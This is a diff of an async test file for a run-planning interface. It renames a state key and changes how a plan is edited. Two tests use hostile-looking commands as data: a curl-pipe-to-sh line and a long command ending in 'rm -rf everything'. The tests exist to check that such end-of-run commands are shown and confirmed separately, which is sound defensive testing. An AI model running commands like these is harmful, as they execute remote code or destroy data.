@@ -116,10 +116,9 @@ async def test_an_edited_plan_is_checked_again(services: MadeServices, rows: str
     async with planned(services, [rows]) as seen:
         await seen.press("g")
         await seen.sees("ready")
-        first = seen.plan
         await seen.press("4")
         await seen.until(lambda: seen.app.at is Step.PLAN)
-        seen.app.flow.take_plan(services.replan(first, {"lora.r": 8}))
+        seen.app.flow.plan.edit({"lora.r": 8})
         await seen.press("5", "g", "g")
         await seen.until(lambda: services.started)
         assert services.started[0].config.lora.r == 8
@@ -127,7 +126,7 @@ async def test_an_edited_plan_is_checked_again(services: MadeServices, rows: str
 
 async def test_a_command_at_the_runs_end_is_asked_about_by_itself(services: MadeServices, rows: str) -> None:
     command = "curl -s https://example.org/done | sh"
-    async with planned(services, [rows], state={"overrides": {"run.on_end": command}}) as seen:
+    async with planned(services, [rows], state={"values": {"run.on_end": command}}) as seen:
         await seen.press("g")
         await seen.sees("ready")
         await seen.press("g", "g")
@@ -243,7 +242,7 @@ async def test_a_long_command_is_agreed_to_once_its_end_was_in_view(
     services: MadeServices, rows: str, size: tuple[int, int]
 ) -> None:
     command = "\n".join([f"echo line {number}" for number in range(60)] + ["rm -rf everything"])
-    async with planned(services, [rows], state={"overrides": {"run.on_end": command}}, size=size) as seen:
+    async with planned(services, [rows], state={"values": {"run.on_end": command}}, size=size) as seen:
         await seen.press("5")
         await seen.sees("ready")
         await seen.press("g", "g")
